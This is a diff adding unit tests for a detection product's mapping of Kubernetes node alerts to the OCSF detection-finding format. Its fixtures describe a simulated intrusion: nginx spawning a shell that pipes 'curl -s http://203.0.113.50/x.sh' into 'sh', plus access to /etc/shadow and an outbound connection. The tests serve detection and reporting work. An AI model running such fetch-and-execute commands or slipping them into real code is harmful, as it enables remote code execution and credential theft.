@@ -1,7 +1,7 @@
 import { type Alert, AlertStatus } from '../../../../shared/alerts/alert';
 import { OCSF_SCHEMA_VERSION, toOcsfDetectionFinding } from '../../../../shared/alerts/export/ocsfFormat';
 import { type Severity } from '../../../../shared/detection/rule';
-import { templateAlert } from '../../../support/alertFixtures';
+import { nodeAlert, templateAlert } from '../../../support/alertFixtures';
 
 const options = { productVersion: '1.2.3' };
 
@@ -207,5 +207,125 @@ describe('toOcsfDetectionFinding', () => {
     const event = finding();
     expect(event['is_alert']).toBeUndefined();
     expect([1, 2, 3, 4]).toContain(event['status_id']);
+  });
+});
+
+describe('toOcsfDetectionFinding for node alerts', () => {
+  const NODE = 'aks-nodepool1-12345678-vmss000000';
+  const connection = (): Alert => nodeAlert({ remote: { address: '198.51.100.7', port: 3333 }, filePath: '/etc/shadow' });
+
+  it.each(requiredAttributes)('when a node alert is mapped, then the required attribute %s is a %s', (path, type) => {
+    expect(typeof at(finding(connection()), path)).toBe(type);
+  });
+
+  it('when a node alert is mapped, then its evidence names the node, the process tree, the file, the remote end and the container', () => {
+    expect(finding(connection())['evidences']).toEqual([
+      {
+        container: { name: 'web', image: { name: 'docker.io/library/nginx:1.27' } },
+        device: { hostname: NODE, type_id: 6, type: 'Virtual' },
+        process: {
+          name: 'curl',
+          pid: 4242,
+          cmd_line: '/usr/bin/curl -s http://203.0.113.50/x.sh',
+          file: { name: 'curl', path: '/usr/bin/curl', type_id: 1, type: 'Regular File' },
+          parent_process: {
+            name: 'sh',
+            pid: 4100,
+            cmd_line: '/bin/sh -c "curl -s http://203.0.113.50/x.sh | sh"',
+            file: { name: 'sh', path: '/bin/sh', type_id: 1, type: 'Regular File' },
+          },
+          lineage: ['/usr/sbin/nginx', '/bin/sh', '/usr/bin/curl'],
+        },
+        file: { name: 'shadow', path: '/etc/shadow', type_id: 0, type: 'Unknown' },
+        dst_endpoint: { ip: '198.51.100.7', port: 3333 },
+      },
+    ]);
+  });
+
+  it('when a node alert is mapped, then there is no actor and the remote address is never a source endpoint', () => {
+    const event = finding(connection());
+    expect(event['actor']).toBeUndefined();
+    expect(JSON.stringify(event)).not.toContain('src_endpoint');
+  });
+
+  it('when a node alert is mapped, then the resources are the cluster, the namespace, the pod, the workload and the node', () => {
+    const alert = connection();
+    expect(finding(alert)['resources']).toEqual([
+      { uid: alert.clusterResourceId, name: 'aks-prod-01', type: 'Kubernetes Cluster' },
+      { name: NODE, type: 'Kubernetes Node' },
+      { name: 'shop', type: 'Kubernetes Namespace' },
+      { name: 'web-7d4b9c6f5-x2x9k', type: 'Kubernetes Pod', data: { namespace: 'shop' } },
+      { name: 'web', type: 'Kubernetes Workload', data: { namespace: 'shop', kind: 'Deployment' } },
+    ]);
+  });
+
+  it('when a node alert is mapped, then the observables point at the node, the remote address, the process and the file', () => {
+    const observables = finding(connection())['observables'] as { name: string; type_id: number; value: string }[];
+    expect(observables).toEqual(
+      expect.arrayContaining([
+        { name: 'evidences.device.hostname', type_id: 1, type: 'Hostname', value: NODE },
+        { name: 'evidences.dst_endpoint.ip', type_id: 2, type: 'IP Address', value: '198.51.100.7' },
+        { name: 'evidences.process.name', type_id: 9, type: 'Process Name', value: 'curl' },
+        { name: 'evidences.process.cmd_line', type_id: 13, type: 'Command Line', value: '/usr/bin/curl -s http://203.0.113.50/x.sh' },
+        { name: 'evidences.file.name', type_id: 7, type: 'File Name', value: 'shadow' },
+        { name: 'resources.name', type_id: 99, type: 'Kubernetes Node', value: NODE },
+      ]),
+    );
+    // Each observable points at a value that is in the event.
+    const event = finding(connection());
+    for (const observable of observables.filter((o) => o.name.startsWith('evidences.'))) {
+      expect(at((event['evidences'] as unknown[])[0], observable.name.slice('evidences.'.length))).toBe(observable.value);
+    }
+  });
+
+  it('when the process has no pid, then it goes to the evidence data (1.3.0 requires a pid or uid of a Process) and its observables point there', () => {
+    const event = finding(nodeAlert({ pid: null }));
+    const [evidence] = event['evidences'] as Record<string, unknown>[];
+    expect(evidence?.['process']).toBeUndefined();
+    expect(at(evidence, 'data.process')).toMatchObject({ name: 'curl', cmd_line: '/usr/bin/curl -s http://203.0.113.50/x.sh', parent_process: { pid: 4100 } });
+    expect(at(evidence, 'data.process.pid')).toBeUndefined();
+    expect(event['observables']).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'evidences.data.process.name', value: 'curl' })]));
+  });
+
+  it('when the parent has no pid and there are no ancestors, then there is no parent_process and no lineage', () => {
+    const event = finding(nodeAlert({ parent: { binary: '/usr/bin/runc' }, ancestors: [] }));
+    const process = at((event['evidences'] as unknown[])[0], 'process') as Record<string, unknown>;
+    expect(process).toMatchObject({ name: 'curl', pid: 4242 });
+    expect([process['parent_process'], process['lineage']]).toEqual([undefined, undefined]);
+  });
+
+  it('when the process runs on the host, then there is no container and the node is still the device', () => {
+    const [evidence] = finding(nodeAlert({ pod: null }))['evidences'] as Record<string, unknown>[];
+    expect(evidence?.['container']).toBeUndefined();
+    expect(evidence?.['device']).toEqual({ hostname: NODE, type_id: 6, type: 'Virtual' });
+  });
+
+  it('when the alert names several files and remote ends, then the first are in the first evidence and each further one is an evidence of its own', () => {
+    const alert = connection();
+    const more: Alert = {
+      ...alert,
+      entities: [...alert.entities, { type: 'file', name: '/etc/gshadow' }, { type: 'ip', address: '203.0.113.9', port: 80 }],
+    };
+    const evidences = finding(more)['evidences'] as Record<string, unknown>[];
+    expect(evidences).toHaveLength(3);
+    expect(evidences[0]).toMatchObject({ file: { path: '/etc/shadow' }, dst_endpoint: { ip: '198.51.100.7' } });
+    expect(evidences.slice(1)).toEqual([
+      { file: { name: 'gshadow', path: '/etc/gshadow', type_id: 0, type: 'Unknown' } },
+      { dst_endpoint: { ip: '203.0.113.9', port: 80 } },
+    ]);
+  });
+
+  it('when the command line is hostile, then it is carried as is (JSON escapes it) and reads back exactly', () => {
+    const hostile = 'x | y = z\n\\evil\r\n"quoted" \u2028';
+    const event = finding(nodeAlert({ arguments: hostile }));
+    expect(at((event['evidences'] as unknown[])[0], 'process.cmd_line')).toBe(`/usr/bin/curl ${hostile}`);
+  });
+
+  it('when an audit alert names processes, files and hosts, then its evidence is unchanged: no device, process, file or destination', () => {
+    const alert: Alert = {
+      ...templateAlert(),
+      entities: [...templateAlert().entities, { type: 'process', commandLine: 'sh -c id' }, { type: 'file', name: '/etc/kubernetes' }],
+    };
+    expect(finding(alert)['evidences']).toEqual(finding()['evidences']);
   });
 });
